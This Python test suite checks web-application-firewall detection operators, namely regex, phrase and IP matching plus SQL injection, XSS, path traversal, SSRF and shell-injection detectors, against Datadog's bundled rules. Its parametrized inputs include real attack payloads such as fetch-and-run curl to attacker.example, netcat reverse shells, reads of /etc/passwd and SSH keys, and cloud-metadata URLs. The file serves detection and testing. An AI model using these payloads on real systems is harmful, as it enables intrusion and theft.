from __future__ import annotations

import json
import threading
from pathlib import Path
from typing import Any

import hyperscan
import pytest
from ddtrace.appsec._constants import DEFAULT
from hypothesis import given

from signals.detection.operators import (
    OPERATORS,
    ExactMatch,
    IpMatch,
    IsSqli,
    IsXss,
    LfiDetector,
    Match,
    MatchRegex,
    Operator,
    OperatorError,
    PhraseMatch,
    ShiDetector,
    SsrfDetector,
)
from signals.detection.transformers import MAX_VALUE_LENGTH, apply_chain
from tests.signals import attacker_text, fuzz_settings, long_attacker_text, long_input_settings

BUNDLED_RULES: dict[str, Any] = json.loads(Path(DEFAULT.RULES).read_text())


def bundled_rule(rule_id: str) -> dict[str, Any]:
    return next(rule for rule in BUNDLED_RULES["rules"] if rule["id"] == rule_id)


def run_bundled_condition(rule_id: str, value: str) -> Match | None:
    """Evaluate the first condition of one of Datadog's rules, with its transformers."""
    rule = bundled_rule(rule_id)
    condition = rule["conditions"][0]
    operator = OPERATORS[condition["operator"]](condition["parameters"])
    return operator(apply_chain(value, rule.get("transformers", [])))


# --- match_regex ---------------------------------------------------------------------------------


def test_match_regex_is_case_insensitive_by_default() -> None:
    match = MatchRegex(r"union\s+select")("1 UNION  SELECT password FROM users")
    assert match == Match(value="1 UNION  SELECT password FROM users", highlight=["UNION  SELECT"])


def test_match_regex_case_sensitive() -> None:
    operator = MatchRegex("Ab", case_sensitive=True)
    assert operator("xAbx") is not None
    assert operator("xabx") is None


def test_match_regex_min_length_counts_utf8_bytes() -> None:
    operator = MatchRegex("a", min_length=4)
    assert operator("aaa") is None
    assert operator("aaaa") is not None
    assert operator("a\u00e9\u00e9") is not None  # 5 bytes, as libddwaf counts


@pytest.mark.parametrize(
    "regex",
    [r"foo(?=bar)", r"(?<!x)y", r"(a)\1", r"(?P<n>a)(?P=n)", r"[unterminated", r"a{2,1}"],
)
def test_match_regex_rejects_what_re2_cannot_compile(regex: str) -> None:
    with pytest.raises(OperatorError, match="regex"):
        MatchRegex(regex)


def test_match_regex_exposes_what_hyperscan_needs() -> None:
    operator = MatchRegex(r"<script[^>]*>", case_sensitive=False, min_length=8)
    assert (operator.pattern, operator.case_sensitive, operator.min_length) == (
        r"<script[^>]*>",
        False,
        8,
    )
    assert operator.hyperscan_flags & hyperscan.HS_FLAG_CASELESS
    assert operator.hyperscan_flags & hyperscan.HS_FLAG_UTF8
    assert not MatchRegex("x", case_sensitive=True).hyperscan_flags & hyperscan.HS_FLAG_CASELESS


def test_match_regex_survives_lone_surrogates_and_reports_a_bounded_value() -> None:
    value = "\ud800" + "x" * 10_000 + "<script>"
    match = MatchRegex("<script>")(value)
    assert match is not None
    assert match.highlight == ["<script>"]
    assert len(match.value) == MAX_VALUE_LENGTH


def test_bundled_xss_rule_sees_through_url_encoding() -> None:
    # crs-941-110: removeNulls, urlDecodeUni, then <script[^>]*>
    assert run_bundled_condition("crs-941-110", "%3Cscr%00ipt%3Ealert(1)") is None
    assert run_bundled_condition("crs-941-110", "%3Cscript%3Ealert(1)%3C/script%3E") is not None
    assert run_bundled_condition("crs-941-110", "%uff1cscript%uff1e") is not None


# --- phrase_match --------------------------------------------------------------------------------


def test_phrase_match_is_case_insensitive_and_highlights_the_phrase() -> None:
    operator = PhraseMatch(["acunetix-product", "sqlmap"])
    assert operator("User-Agent: SQLMap/1.7") == Match(
        value="User-Agent: SQLMap/1.7", highlight=["sqlmap"]
    )
    assert operator("Mozilla/5.0") is None


def test_phrase_match_word_boundary() -> None:
    operator = PhraseMatch(["cat", "/etc/"], word_boundary=True)
    assert operator("| cat x") is not None
    assert operator("concatenate") is None
    assert operator("scat") is None
    # every occurrence is checked, not just the first
    assert operator("concat cat") is not None
    assert operator("a/etc/b") is None
    assert operator("read /etc/ now") is not None


def test_phrase_match_without_word_boundary_matches_inside_words() -> None:
    assert PhraseMatch(["cat"])("concatenate") is not None


def test_phrase_match_non_ascii_phrases_fold_case() -> None:
    assert PhraseMatch(["\u00e9vil"])("\u00c9VIL") is not None


def test_phrase_match_empty_lists_and_phrases_never_match() -> None:
    assert PhraseMatch([])("anything") is None
    assert PhraseMatch(["", "x"])("abc") is None


def test_phrase_match_is_safe_across_threads() -> None:
    operator = PhraseMatch(["needle", "pin"], word_boundary=True)
    errors: list[BaseException] = []

    def scan() -> None:
        try:
            for _ in range(300):
                assert operator("hay " * 50 + "needle") is not None
                assert operator("haystack " * 50) is None
        except BaseException as error:  # reported by the assertion below
            errors.append(error)

    threads = [threading.Thread(target=scan) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []


def test_bundled_os_file_rule_keeps_windows_backslashes() -> None:
    # crs-930-120 lists "windows\\win.ini" and runs after lowercase + normalizePath.
    assert run_bundled_condition("crs-930-120", "..\\..\\Windows\\win.ini") is not None
    assert run_bundled_condition("crs-930-120", "/var/www/../../etc/passwd") is not None
    assert run_bundled_condition("crs-930-120", "/images/cat.png") is None


# --- exact_match and ip_match --------------------------------------------------------------------


def test_exact_match() -> None:
    operator = ExactMatch(["admin", "root"])
    assert operator("admin") == Match(value="admin", highlight=["admin"])
    assert operator("Admin") is None
    assert operator("administrator") is None


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("192.168.1.77", "192.168.1.77"),
        ("203.0.113.9", "203.0.113.9"),
        (" 203.0.113.9 ", "203.0.113.9"),
        ("::ffff:203.0.113.9", "203.0.113.9"),
        ("2001:db8::1", "2001:db8::1"),
        ("[2001:db8::abcd]", "2001:db8::abcd"),
        ("198.51.100.1", "198.51.100.1"),
    ],
)
def test_ip_match_matches(value: str, expected: str) -> None:
    operator = IpMatch(
        ["192.168.0.0/16", "203.0.113.9", "2001:db8::/32", "::ffff:198.51.100.0/120"]
    )
    assert operator(value) == Match(value=value, highlight=[expected])


@pytest.mark.parametrize("value", ["10.0.0.1", "203.0.113.10", "2001:db9::1", "not an ip", ""])
def test_ip_match_does_not_match(value: str) -> None:
    operator = IpMatch(["192.168.0.0/16", "203.0.113.9", "2001:db8::/32"])
    assert operator(value) is None


def test_ip_match_handles_long_lists() -> None:
    operator = IpMatch([f"10.{i // 256}.{i % 256}.0/24" for i in range(5000)])
    assert operator("10.19.135.4") is not None
    assert operator("10.200.0.1") is None


def test_ip_match_rejects_bad_networks() -> None:
    with pytest.raises(OperatorError, match=r"'list'.*'999\.1\.1\.1'"):
        IpMatch(["10.0.0.0/8", "999.1.1.1"])


# --- libinjection --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "chain", "fingerprint"),
    [
        ("1' OR 1=1--", [], "s&1c"),
        ("%27%20or%201%3D1", ["urlDecode"], "s&1"),
        ("%2527%20or%201%3D1", ["urlDecode"], "s&1"),
        ("1 UNION SELECT username, password FROM users", [], "1UEnk"),
        ("J09SIDE9MS8q", ["base64Decode"], "s&1c"),
    ],
)
def test_is_sqli(value: str, chain: list[str], fingerprint: str) -> None:
    match = IsSqli()(apply_chain(value, chain))
    assert match is not None
    assert match.highlight == [fingerprint]


@pytest.mark.parametrize(
    "value", ["O'Reilly", "select a size", "Tom & Jerry", "50% off", "%27%20or%201%3D1"]
)
def test_is_sqli_benign(value: str) -> None:
    assert IsSqli()(value) is None


@pytest.mark.parametrize(
    ("value", "chain"),
    [
        ("<svg/onload=alert(1)>", []),
        ('"><img src=x onerror=alert(1)>', []),
        ("&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;", ["htmlEntityDecode"]),
        (r"\u003cscript\u003ealert(1)\u003c/script\u003e", ["jsDecode"]),
        ("%3Csvg%2Fonload%3Dalert(1)%3E", ["urlDecode"]),
    ],
)
def test_is_xss(value: str, chain: list[str]) -> None:
    transformed = apply_chain(value, chain)
    match = IsXss()(transformed)
    assert match is not None
    assert match.highlight == [transformed[:64]]


@pytest.mark.parametrize(
    "value",
    ["Tom & Jerry", "a < b and c > d", "<b>bold</b>", "&#x3c;script&#x3e;", "50% off"],
)
def test_is_xss_benign(value: str) -> None:
    assert IsXss()(value) is None


def test_libinjection_operators_survive_lone_surrogates() -> None:
    assert IsSqli()("\ud800' OR 1=1--") is not None
    assert IsXss()("\udfff<svg/onload=alert(1)>") is not None


# --- lfi_detector --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "found"),
    [
        ("../../etc/passwd", "../../etc/passwd"),
        ("..%2f..%2fetc%2fpasswd", "../../etc/passwd"),
        ("..%252f..%252fetc%252fpasswd", "../../etc/passwd"),
        ("%2e%2e/%2e%2e/etc/shadow", "../../etc/shadow"),
        ("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "../../etc/passwd"),
        ("%uff0e%uff0e%u2215etc%u2215passwd", "../etc/passwd"),
        ("....//....//etc/passwd", "../../etc/passwd"),
        ("..\\..\\windows\\win.ini", "../../windows/win.ini"),
        ("../../../etc/passwd%00.png", "../../../etc/passwd"),
        ("files/../../etc/passwd", "../etc/passwd"),
        ("../../../../../../x", "../../../../../../x"),
        ("/etc/passwd", "/etc/passwd"),
        ("/var/www/html/../../../etc/shadow", "/etc/shadow"),
        ("/proc/self/environ", "/proc/self/environ"),
        ("/root/.ssh/id_rsa", "/root/.ssh/id_rsa"),
        ("c:\\windows\\win.ini", "/windows/win.ini"),
        ("C:/Windows/System32/drivers/etc/hosts", "/Windows/System32/drivers/etc/hosts"),
        ("file:///etc/passwd", "/etc/passwd"),
        (".git/config", ".git/config"),
        ("WEB-INF/web.xml", "WEB-INF/web.xml"),
        (".env", ".env"),
        ("app/../.env", ".env"),
        (".aws/credentials", ".aws/credentials"),
        ("/home/alice/.ssh/authorized_keys", "/home/alice/.ssh/authorized_keys"),
    ],
)
def test_lfi_detector_flags(value: str, found: str) -> None:
    assert LfiDetector()(value) == Match(value=value, highlight=[found])


@pytest.mark.parametrize(
    "value",
    [
        "../img/a.png",
        "../../assets/logo.svg",
        "images/a.png",
        "/static/css/site.css",
        "https://shop.example.com/next?x=1",
        "see /etc/passwd for the format",
        "etc/passwd",
        "/etcetera/passwd",
        "/procurement/report.pdf",
        "/root/dashboard",
        "v1.2.3",
        "Loading...",
        "O'Reilly",
        "50% off",
        "my.env.example",
        "",
    ],
)
def test_lfi_detector_ignores(value: str) -> None:
    assert LfiDetector()(value) is None


# --- ssrf_detector -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "found"),
    [
        ("http://169.254.169.254/latest/meta-data/", ["169.254.169.254"]),
        ("http://[::ffff:a9fe:a9fe]/", ["169.254.169.254"]),
        ("http://[::ffff:169.254.169.254]/latest/", ["169.254.169.254"]),
        ("http://2852039166/", ["169.254.169.254"]),
        ("http://0xa9fea9fe/", ["169.254.169.254"]),
        ("http://0251.0376.0251.0376/", ["169.254.169.254"]),
        ("http://0xa9.254.0251.0xfe/", ["169.254.169.254"]),
        ("http://127.1/admin", ["127.0.0.1"]),
        ("http://0/", ["0.0.0.0"]),  # noqa: S104 - an expected highlight, not a bind address
        ("https://10.0.0.5:8443/internal", ["10.0.0.5"]),
        ("http://100.100.100.200/latest/meta-data/", ["100.100.100.200"]),
        ("http://[::1]:8080/", ["::1"]),
        ("http://[fd00:ec2::254]/latest/", ["fd00:ec2::254"]),
        ("http://[64:ff9b::a9fe:a9fe]/", ["64:ff9b::a9fe:a9fe"]),
        ("http://localhost:8080/actuator/env", ["localhost"]),
        ("http://LOCALHOST./", ["localhost"]),
        ("http://admin.localhost/", ["admin.localhost"]),
        ("http://metadata.google.internal/computeMetadata/v1/", ["metadata.google.internal"]),
        ("http://127.0.0.1.nip.io/", ["127.0.0.1"]),
        ("http://%31%32%37.0.0.1/", ["127.0.0.1"]),
        ("http%3A%2F%2F169.254.169.254%2F", ["169.254.169.254"]),
        ("http://\uff11\uff12\uff17.0.0.1/", ["127.0.0.1"]),
        ("http://user:pass@127.0.0.1/", ["127.0.0.1"]),
        ("http://example.com@127.0.0.1/", ["127.0.0.1"]),
        ("http://1.1.1.1\\@127.0.0.1/", ["127.0.0.1"]),
        ("http://example.com#@127.0.0.1/", ["127.0.0.1"]),
        ("//127.0.0.1/admin", ["127.0.0.1"]),
        ("http:\\\\127.0.0.1\\", ["127.0.0.1"]),
        ("http:127.1", ["127.0.0.1"]),
        ("gopher://127.0.0.1:6379/_", ["gopher:", "127.0.0.1"]),
        ("dict://internal-cache:11211/stat", ["dict:"]),
        ("file:///etc/passwd", ["file:"]),
        ("FILE:/etc/passwd", ["file:"]),
        ("ldap://attacker.example/o=x", ["ldap:"]),
        ("php://filter/resource=index.php", ["php:"]),
        ("expect://id", ["expect:"]),
        ("netdoc:/etc/passwd", ["netdoc:"]),
        ("jar:http://attacker.example/x.jar!/", ["jar:"]),
        ("127.0.0.1:6379", ["127.0.0.1"]),
        ("localhost:6379", ["localhost"]),
        ("[::1]:22", ["::1"]),
        ("127.0.0.1", ["127.0.0.1"]),
        ("169.254.169.254/latest/meta-data", ["169.254.169.254"]),
        ("localhost", ["localhost"]),
        ("::1", ["::1"]),
    ],
)
def test_ssrf_detector_flags(value: str, found: list[str]) -> None:
    assert SsrfDetector()(value) == Match(value=value, highlight=found)


@pytest.mark.parametrize(
    "value",
    [
        "https://shop.example.com/next?x=1",
        "https://8.8.8.8/dns-query",
        "http://localhost.evil.example/",
        "https://example.com/?next=http://127.0.0.1/",
        "please call localhost support",
        "the metadata service lives at 169.254.169.254",
        # bare numbers are numbers, not addresses
        "2852039166",
        "127.1",
        "0",
        "10:30",
        "metadata",
        "mailto:alice@example.com",
        "javascript:alert(1)",
        "example.com:443",
        "O'Reilly",
        "50% off",
        "",
    ],
)
def test_ssrf_detector_ignores(value: str) -> None:
    assert SsrfDetector()(value) is None


# --- shi_detector --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "found"),
    [
        ("127.0.0.1; cat /etc/passwd", "; cat /etc/passwd"),
        ("127.0.0.1;id", ";id"),
        ("$(whoami)", "$(whoami"),
        ("name=$(curl attacker.example/x.sh|sh)", "$(curl attacker.example/x.sh"),
        ("`id`", "`id"),
        ("|| ping -c 3 x.example", "|| ping -c"),
        ("x && /usr/bin/wget http://x.example/s", "&& /usr/bin/wget http://x.example/s"),
        ("x | nc -e /bin/sh 10.0.0.1 4444", "| nc -e"),
        ("a\nuname -a", "uname -a"),
        ("; sleep 5", "; sleep 5"),
        (";sleep;", ";sleep"),
        ("a;c''at /etc/passwd", ";c''at /etc/passwd"),
        ('a;w"h"oami', ';w"h"oami'),
        ("a;c\\at /etc/passwd", ";c\\at /etc/passwd"),
        (";cat${IFS}/etc/passwd", ";cat${IFS}/etc/passwd"),
        (";{cat,/etc/passwd}", ";{cat,/etc/passwd}"),
        ("x && c$@at /etc/passwd", "&& c$@at /etc/passwd"),
        ("x | bash -i", "| bash -i"),
        ("diff <(ls /root) x", "<(ls /root"),
        ("x & ping -n 3 127.0.0.1", "& ping -n"),
        ("x & cmd.exe /c whoami", "& cmd.exe /c"),
        ("x | C:\\Windows\\System32\\cmd.exe /c dir", "| C:\\Windows\\System32\\cmd.exe /c"),
        ("x & PowerShell -enc SQBFAFgA", "& PowerShell -enc"),
        ("x & type C:\\boot.ini", "& type C:\\boot.ini"),
        (";cat</etc/passwd", ";cat</etc/passwd"),
        ("x; kill -9 1", "; kill -9"),
    ],
)
def test_shi_detector_flags(value: str, found: str) -> None:
    assert ShiDetector()(value) == Match(value=value, highlight=[found])


@pytest.mark.parametrize(
    "value",
    [
        "Tom & Jerry",
        "a; b",
        "C++ | Java",
        "rock && roll",
        "tea; sleep well",
        "cats & dogs | birds",
        "Black & white; sort by date",
        "salt & pepper",
        "AT&T",
        "R&D | Q&A",
        "Notes\nCat lovers unite\nSleep 8 hours",
        "price: $((25*94))",
        "cat /etc/passwd",
        "echo",
        "a | echo chamber",
        "I need rest; sleep. Then coffee",
        "Meeting; date 12/05; last 5 days",
        "Hello\nType 5 characters",
        "Wish list; cut 3 pieces",
        "x; http://example.com/curl",
        "O'Reilly",
        "50% off",
        "",
    ],
)
def test_shi_detector_ignores(value: str) -> None:
    assert ShiDetector()(value) is None


# --- factory -------------------------------------------------------------------------------------


def test_operators_are_keyed_by_datadog_names() -> None:
    assert {
        "match_regex",
        "phrase_match",
        "exact_match",
        "ip_match",
        "is_sqli",
        "is_xss",
        "lfi_detector",
        "lfi_detector@v2",
        "ssrf_detector",
        "shi_detector",
        "cmdi_detector",
    } <= OPERATORS.keys()
    assert not any(name.startswith("!") for name in OPERATORS)


@pytest.mark.parametrize(
    ("name", "parameters", "operator_class"),
    [
        (
            "match_regex",
            {"regex": "x", "options": {"case_sensitive": True, "min_length": 3}},
            MatchRegex,
        ),
        ("phrase_match", {"list": ["a"], "options": {"enforce_word_boundary": True}}, PhraseMatch),
        ("exact_match", {"list": ["a"]}, ExactMatch),
        ("ip_match", {"list": ["10.0.0.0/8"]}, IpMatch),
        ("is_sqli", {}, IsSqli),
        ("is_xss", {}, IsXss),
        ("lfi_detector@v2", {"resource": [], "params": []}, LfiDetector),
        ("ssrf_detector", {"options": {"path-inspection": True}}, SsrfDetector),
        ("shi_detector", {}, ShiDetector),
        ("cmdi_detector", {}, ShiDetector),
    ],
)
def test_operators_build_from_rule_parameters(
    name: str, parameters: dict[str, Any], operator_class: type
) -> None:
    operator = OPERATORS[name]({"inputs": [{"address": "server.request.query"}], **parameters})
    assert isinstance(operator, operator_class)


def test_match_regex_parameters_reach_the_operator() -> None:
    operator = OPERATORS["match_regex"](
        {"regex": "AbC", "options": {"case_sensitive": True, "min_length": 5}}
    )
    assert isinstance(operator, MatchRegex)
    assert (operator.pattern, operator.case_sensitive, operator.min_length) == ("AbC", True, 5)
    assert operator("xxAbC") is not None
    assert operator("xxabc") is None
    assert operator("AbC") is None


@pytest.mark.parametrize(
    ("name", "parameters", "message"),
    [
        ("match_regex", {}, "match_regex: parameter 'regex' must be a string"),
        ("match_regex", {"regex": 1}, "parameter 'regex' must be a string"),
        ("match_regex", {"regex": "a(?=b)"}, "match_regex: parameter 'regex' is not a valid RE2"),
        ("match_regex", {"regex": "a", "options": []}, "parameter 'options' must be an object"),
        ("match_regex", {"regex": "a", "options": {"min_length": -1}}, "'options.min_length'"),
        ("match_regex", {"regex": "a", "options": {"min_length": True}}, "'options.min_length'"),
        ("match_regex", {"regex": "a", "options": {"case_sensitive": "no"}}, "'options.case_sens"),
        ("phrase_match", {}, "phrase_match: parameter 'list' must be a list of strings"),
        ("phrase_match", {"list": ["a", 1]}, "parameter 'list' must be a list of strings"),
        ("phrase_match", {"list": ["a"], "options": {"enforce_word_boundary": 1}}, "'options.enf"),
        ("exact_match", {"list": "admin"}, "exact_match: parameter 'list' must be a list"),
        ("exact_match", {"data": "blocked_users"}, "exact_match: parameter 'data' names rules"),
        ("ip_match", {"data": "blocked_ips"}, "ip_match: parameter 'data' names rules data"),
        ("ip_match", {"list": ["10.0.0.0/33"]}, "ip_match: parameter 'list' has an entry"),
    ],
)
def test_bad_parameters_raise_operator_error_naming_them(
    name: str, parameters: dict[str, Any], message: str
) -> None:
    with pytest.raises(OperatorError) as caught:
        OPERATORS[name](parameters)
    assert message in str(caught.value)
    assert isinstance(caught.value, ValueError)


def test_every_operator_in_datadogs_bundled_rules_builds() -> None:
    built = 0
    for rule in BUNDLED_RULES["rules"]:
        for condition in rule["conditions"]:
            name = condition["operator"].removeprefix("!")
            parameters = condition["parameters"]
            if name not in OPERATORS or "data" in parameters:
                continue  # equals, exists, sqli_detector: the engine's; data: resolved by it
            OPERATORS[name](parameters)
            built += 1
    assert built > 200


# --- every operator, on anything -----------------------------------------------------------------

FUZZED_OPERATORS: list[Operator] = [
    MatchRegex(r"(?:union\s+select|<script[^>]*>[\s\S]*?|\bon\w+\s*=)"),
    MatchRegex(bundled_rule("crs-930-100")["conditions"][0]["parameters"]["regex"]),
    OPERATORS["phrase_match"](bundled_rule("crs-930-120")["conditions"][0]["parameters"]),
    OPERATORS["phrase_match"](bundled_rule("crs-913-110")["conditions"][0]["parameters"]),
    ExactMatch(["admin", ""]),
    IpMatch(["10.0.0.0/8", "::1", "2001:db8::/32"]),
    IsSqli(),
    IsXss(),
    LfiDetector(),
    SsrfDetector(),
    ShiDetector(),
]


@fuzz_settings
@given(attacker_text)
def test_no_operator_raises(value: str) -> None:
    for operator in FUZZED_OPERATORS:
        match = operator(value)
        if match is not None:
            assert len(match.value) <= MAX_VALUE_LENGTH
            assert all(isinstance(fragment, str) for fragment in match.highlight)


@fuzz_settings
@given(attacker_text)
def test_no_operator_raises_on_transformed_values(value: str) -> None:
    transformed = apply_chain(value, ["urlDecodeUni", "htmlEntityDecode", "unicode_normalize"])
    for operator in FUZZED_OPERATORS:
        operator(transformed)


@long_input_settings
@given(long_attacker_text)
def test_no_operator_is_slow_on_long_input(value: str) -> None:
    for operator in FUZZED_OPERATORS:
        operator(value)
